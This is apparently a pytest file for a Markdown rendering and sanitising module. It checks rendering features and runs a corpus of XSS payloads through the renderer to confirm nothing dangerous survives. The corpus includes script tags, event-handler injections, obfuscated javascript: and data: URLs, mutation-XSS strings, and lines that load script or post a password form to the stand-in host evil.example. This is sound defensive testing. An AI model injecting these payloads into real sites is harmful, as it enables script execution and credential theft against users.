"""Rendering: the Markdown features authors get, and the XSS corpus that must not survive."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from trainer.content import render_inline, render_markdown
from trainer.content.markdown import BLOCK_TAGS


def test_headings_get_prefixed_anchor_ids():
    assert render_markdown("## Lawful bases\n\n### Consent") == (
        '<h2 id="section-lawful-bases">Lawful bases</h2>\n<h3 id="section-consent">Consent</h3>')


def test_admonition_keeps_its_classes_and_title():
    html = render_markdown('!!! warning "Never do this"\n    Do not copy the list.\n')
    assert html == ('<div class="admonition warning">\n<p class="admonition-title">Never do this</p>\n'
                    "<p>Do not copy the list.</p>\n</div>")


def test_tables_keep_alignment_without_style_attributes():
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |\n")
    assert '<th align="left">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_fenced_code_keeps_the_language_class_and_escapes_its_content():
    html = render_markdown('```python\nprint("<b>")\n```\n')
    assert html == '<pre class="highlight"><code class="language-python">print("&lt;b&gt;")</code></pre>'


def test_unknown_classes_are_dropped():
    html = render_markdown('```evil-lang\nx\n```\n\n<p class="admonition-title x">t</p>')
    assert 'class="language-evil-lang"' not in html
    assert '<p class="admonition-title">t</p>' in html


def test_links_get_rel_noopener_noreferrer():
    html = render_markdown("[GDPR](https://gdpr-info.eu/art-33-gdpr/) and [mail](mailto:dpo@example.com)")
    assert html == ('<p><a href="https://gdpr-info.eu/art-33-gdpr/" rel="noopener noreferrer">GDPR</a> and '
                    '<a href="mailto:dpo@example.com" rel="noopener noreferrer">mail</a></p>')


def test_sane_lists_and_emphasis():
    assert render_markdown("1. one\n2. two\n\n- a\n- b") == (
        "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>")


def test_attribute_lists_are_not_enabled():
    html = render_markdown('## Heading {: onclick="alert(1)" #custom }\n\nText {: .x }')
    assert [attrs for _tag, attrs in elements(html)] == [
        {"id": "section-heading-onclickalert1-custom"}, {}]
    assert 'Heading {: onclick="alert(1)" #custom }</h2>' in html  # left as text


def test_relative_images_stay_and_external_images_lose_their_source():
    html = render_markdown("![chart](/static/chart.png)")
    assert html == '<p><img alt="chart" src="/static/chart.png"></p>'
    assert render_markdown("![pixel](https://tracker.example/p.gif)") == '<p><img alt="pixel"></p>'


def test_raw_html_ids_are_prefixed_against_clobbering():
    assert render_markdown('<h2 id="login-form">x</h2>') == '<h2 id="section-login-form">x</h2>'


def test_h1_does_not_survive():
    assert render_markdown("# Title") == "Title"


def test_inline_rendering_has_no_paragraph_and_no_blocks():
    assert render_inline("Is `rm -rf` *safe*?") == "Is <code>rm -rf</code> <em>safe</em>?"
    assert render_inline("# Not a heading") == "# Not a heading"
    assert render_inline("1984. A year") == "1984. A year"
    assert render_inline("> not a quote") == "&gt; not a quote"
    assert render_inline("- not a list") == "- not a list"


def test_empty_markdown_renders_empty():
    assert render_markdown("  \n") == ""
    assert render_inline("") == ""


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](&#106;avascript:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](vbscript:msgbox(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0">x</div>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    '<div onclick="alert(1)">x</div>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<textarea><script>alert(1)</script></textarea>',
    "`<script>` is fine as code",
    '```html\n<script>alert(1)</script>\n```',
    '!!! tip "<img src=x onerror=alert(1)>"\n    body',
    "## Heading <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<a href="https://ok.example" target="_blank">x</a>',
    '<div id="x" class="admonition" data-x="1" aria-label="y">x</div>',
]

ALLOWED_TAGS = BLOCK_TAGS
SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see (WHATWG: tabs and newlines removed, ends trimmed)."""
    url = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
    match = SCHEME.match(url)
    return match.group(1).lower() if match else None


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data):  # type: ignore[no-untyped-def]
        self.comments.append(data)


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every element as a browser's tokenizer sees it (entities decoded); comments fail."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    assert collector.comments == [], html
    return collector.found


@pytest.mark.parametrize("source", XSS)
def test_nothing_dangerous_survives_rendering(source):
    for html in (render_markdown(source), render_inline(source)):
        for tag, attrs in elements(html):
            assert tag in ALLOWED_TAGS, html
            for name, value in attrs.items():
                assert not name.startswith("on"), html
                assert name in {"href", "src", "alt", "title", "id", "class", "rel", "align", "start"}, html
                if name in ("href", "src"):
                    assert url_scheme(value) in (None, "http", "https", "mailto"), html
                if name == "class":
                    assert set(value.split()) <= {"admonition", "tip", "admonition-title", "highlight",
                                                  "language-html"}, html


def test_escaped_script_survives_as_text_not_markup():
    html = render_markdown("`<script>` is fine as code")
    assert html == "<p><code>&lt;script&gt;</code> is fine as code</p>"


def test_links_with_entity_encoded_schemes_lose_their_href():
    html = render_markdown('<a href="&#106;avascript:alert(1)">x</a>')
    assert html == '<p><a rel="noopener noreferrer">x</a></p>'
